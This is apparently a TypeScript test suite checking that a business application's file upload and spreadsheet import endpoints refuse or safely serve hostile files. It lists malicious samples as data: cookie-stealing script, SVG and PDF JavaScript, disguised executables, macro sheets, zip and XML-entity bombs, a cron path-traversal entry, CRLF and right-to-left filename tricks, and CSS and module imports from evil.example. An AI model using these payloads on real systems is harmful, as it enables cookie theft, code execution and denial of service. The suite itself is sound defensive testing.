import assert from 'node:assert/strict'
import { test } from 'node:test'
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import { caller, office as sampleOffice, type Office, type Reply } from './office.ts'

const script = '<script>parent.stolen = document.cookie</script>'
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const pdf = Buffer.from(
  '%PDF-1.7\n1 0 obj <</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj\n%%EOF',
)
const exe = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
])
const macros = zip([
  [
    '[Content_Types].xml',
    '<Types><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
  ],
  ['xl/workbook.xml', '<workbook/>'],
  ['xl/vbaProject.bin', 'Sub Auto_Open()'],
])
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`

/** Real contents under false names and types, as somebody sends them who means harm. */
const files: readonly (readonly [what: string, name: string, type: string, content: Buffer | string])[] = [
  ['a page as a picture', 'logo.png', 'image/png', `<!doctype html>${script}`],
  ['a page as a text', 'terms.txt', 'text/plain', `<html>${script}`],
  ['a page by its name', 'terms.html', 'text/html', `<!doctype html><html>${script}`],
  [
    'a page as XHTML',
    'terms.xhtml',
    'application/xhtml+xml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  ],
  ['a drawing with script', 'logo.svg', 'image/svg+xml', svg],
  ['a drawing with script as a picture', 'logo.png', 'image/svg+xml', svg],
  ['a style sheet', 'own.css', 'text/css', 'body { background: url(https://evil.example/seen) }'],
  ['script as data', 'data.json', 'application/javascript', 'alert(document.cookie)'],
  ['script by its name', 'own.js', 'text/javascript', 'alert(document.cookie)'],
  ['script as a module', 'own.mjs', 'text/javascript', 'import "https://evil.example/x.js"'],
  [
    'a picture that is a page as well',
    'seen.gif',
    'text/html',
    Buffer.concat([gif, Buffer.from(`*/${script}`)]),
  ],
  [
    'a picture that is a page as well, by its name',
    'seen.html',
    'text/html',
    Buffer.concat([png, Buffer.from(script)]),
  ],
  [
    'a picture that is script as well',
    'seen.js',
    'text/javascript',
    Buffer.concat([Buffer.from('GIF89a=1;'), Buffer.from('alert(1)//')]),
  ],
  ['a paper that is a page as well', 'paper.html', 'text/html', Buffer.concat([pdf, Buffer.from(script)])],
  ['a paper with script of its own', 'paper.pdf', 'application/pdf', pdf],
  ['a program as a picture', 'logo.png', 'image/png', exe],
  ['a program as a paper', 'invoice.pdf.exe', 'application/pdf', exe],
  ['a sheet with macros', 'prices.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', macros],
  [
    'a sheet with macros as one without',
    'prices.xlsx',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    macros,
  ],
  ['an archive as a picture', 'logo.jpg', 'image/jpeg', zip([['../../etc/cron.d/own', '* * * * * root id']])],
  ['a bomb', 'bomb.zip', 'application/zip', zip([['zeros', Buffer.alloc(50_000_000)]])],
  ['a bomb of gzip', 'bomb.gz', 'application/gzip', gzipSync(Buffer.alloc(50_000_000))],
  ['a shortcut of Windows', 'open me.url', 'text/plain', '[InternetShortcut]\nURL=file://evil.example/x'],
  ['a page of UTF-7', 'terms.txt', 'text/plain', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['a page of UTF-16', 'terms.txt', 'text/plain', Buffer.from(`\ufeff<html>${script}`, 'utf16le')],
  [
    'a mail with a page',
    'mail.mht',
    'multipart/related',
    `MIME-Version: 1.0\nContent-Type: text/html\n\n${script}`,
  ],
  ['a name that goes up', '../../../server/index.html', 'text/html', script],
  ['a name that breaks the line', 'a\r\nset-cookie: kontor_session=x\r\n.txt', 'text/plain', 'text'],
  ['a name that turns round', 'invoice\u202efdp.exe', 'application/pdf', exe],
]

/** What a browser shows in its place and cannot be made to act on. */
const shownInert = new Set(['image/png', 'image/gif', 'application/pdf', 'text/plain; charset=utf-8'])
const acting = /html|xml|svg|javascript|ecmascript|css|mht|message|multipart/

test('whatever a file says that it is, it is refused or handed out so that nothing in it runs', async (t) => {
  const scene = await sampleOffice(t)
  const { as, engine } = scene
  const party = (await as.administrator.post('customers', { name: 'Zz Files', country: 'LV' })).body.id
  const faults: string[] = []
  for (const [what, name, type, content] of files) {
    const sent = await send(scene, 'files', { name, type, content })
    if (sent.status !== 201) {
      if (![415, 422, 413].includes(sent.status)) faults.push(`${what}: ${sent.status} ${sent.text}`)
      continue
    }
    const kept = await as.administrator.post('papers', {
      party,
      name: what,
      kind: 'other',
      file: sent.body.id,
    })
    assert.ok([201, 422].includes(kept.status), kept.text)
    for (const place of [`files/${sent.body.id}/content`, `files/${sent.body.id}/content?download=true`]) {
      const headers = { authorization: `Bearer ${as.administrator.key}` }
      const answer = await fetch(`${scene.url}/api/v1/${place}`, { headers })
      await answer.arrayBuffer()
      assert.equal(answer.status, 200, what)
      faults.push(...actsIn(answer, place.endsWith('true')).map((fault) => `${what}, ${place}: ${fault}`))
    }
  }
  assert.deepEqual(faults, [])
  await engine.jobs.drain()
})

/** What is wrong with how a file is handed out. */
function actsIn({ headers }: Response, isSaved: boolean): string[] {
  const type = headers.get('content-type') ?? ''
  const [how = ''] = (headers.get('content-disposition') ?? '').split(';')
  const policy = headers.get('content-security-policy') ?? ''
  return [
    headers.get('x-content-type-options') === 'nosniff' ? '' : 'may be guessed at',
    acting.test(type) ? `is ${type}` : '',
    how === 'attachment' || (!isSaved && shownInert.has(type)) ? '' : `is shown as ${type}`,
    policy.includes("default-src 'none'") && !/script-src|unsafe-eval/.test(policy) ? '' : `policy ${policy}`,
    type === 'application/pdf' || /\bsandbox\b(?! allow)/.test(policy) ? '' : 'not in a sandbox',
    headers.get('set-cookie') === null ? '' : 'sets a cookie',
    /[\r\n\u202e]/.test(headers.get('content-disposition') ?? '') ? 'its name breaks out' : '',
  ].filter((fault) => fault !== '')
}

test('a table that is none, or unpacks to more than fits, is refused by name and holds nothing up', async (t) => {
  const scene = await sampleOffice(t)
  const sheet = (content: Buffer) =>
    zip([
      [
        '_rels/.rels',
        `<Relationships><Relationship Id="r" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ],
      ['[Content_Types].xml', '<Types/>'],
      [
        'xl/workbook.xml',
        '<workbook xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ],
      [
        'xl/_rels/workbook.xml.rels',
        `<Relationships><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      ],
      ['xl/worksheets/sheet1.xml', content],
    ])
  const entities = `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(1_000)}"><!ENTITY b "${'&a;'.repeat(1_000)}">]><x>&b;</x>`
  const tables: readonly (readonly [what: string, name: string, content: Buffer | string])[] = [
    ['a page', 'partners.csv', Buffer.concat([Buffer.from([0]), Buffer.from(`<html>${script}`)])],
    ['a program', 'partners.csv', exe],
    ['a program as a sheet', 'partners.xlsx', exe],
    ['a bomb as a sheet', 'partners.xlsx', sheet(Buffer.alloc(600_000_000, ' '))],
    ['entities', 'partners.xlsx', sheet(Buffer.from(entities))],
    ['an archive of nothing', 'partners.xlsx', zip([['readme', 'x']])],
  ]
  for (const [what, name, content] of tables) {
    const sent = await send(scene, 'imports', { name, type: 'text/csv', content, object: 'customer' })
    assert.ok([409, 413, 415, 422].includes(sent.status), `${what}: ${sent.status} ${sent.text}`)
    assert.doesNotMatch(sent.text, /at .*\.ts:\d+|node:/, what)
  }
  assert.equal((await scene.as.administrator.get('customers?limit=1')).status, 200)
})

type Sent = { name: string; type: string; content: Buffer | string; object?: string }

function send({ as, url }: Office, place: string, { name, type, content, object }: Sent): Promise<Reply> {
  const form = new FormData()
  if (object) form.append('object', object)
  form.append('file', new Blob([new Uint8Array(Buffer.from(content))], { type }), name)
  const headers = { authorization: `Bearer ${as.administrator.key}` }
  return caller(url, {}).ask('POST', `${url}/api/v1/${place}`, { raw: { body: form, headers } })
}

/** An archive of these files, deflated; written by hand, for no tool writes false ones. */
function zip(entries: readonly (readonly [name: string, content: Buffer | string])[]): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const [name, content] of entries) {
    const whole = Buffer.from(content)
    const packed = deflateRawSync(whole, { level: 9 })
    const named = Buffer.from(name)
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(8, 4)
    fields.writeUInt32LE(crc32(whole), 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(whole.length, 18)
    fields.writeUInt16LE(named.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, named, packed])
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(at, 10)
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, rest, named]))
    locals.push(local)
    at += local.length
  }
  const index = Buffer.concat(central)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(index.length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...locals, index, Buffer.from('PK\x05\x06', 'latin1'), end])
}
